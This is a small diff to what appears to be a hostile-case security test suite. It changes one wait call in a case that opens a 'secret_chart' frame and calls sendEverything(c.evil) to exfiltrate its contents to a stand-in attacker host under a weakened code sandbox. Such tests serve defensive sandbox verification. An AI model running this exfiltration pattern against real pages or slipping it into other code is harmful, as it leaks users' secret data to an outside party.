@@ -101,7 +101,7 @@ export const frameCases: HostileCase[] = [
     action: async (c) => {
       const frame = await chartFrame(c, "secret_chart");
       await frame.evaluate(sendEverything(c.evil)).catch(() => undefined);
-      await c.page.waitForTimeout(1500);
+      await c.linger(1500);
     },
     weaken: "code-sandbox",
   },
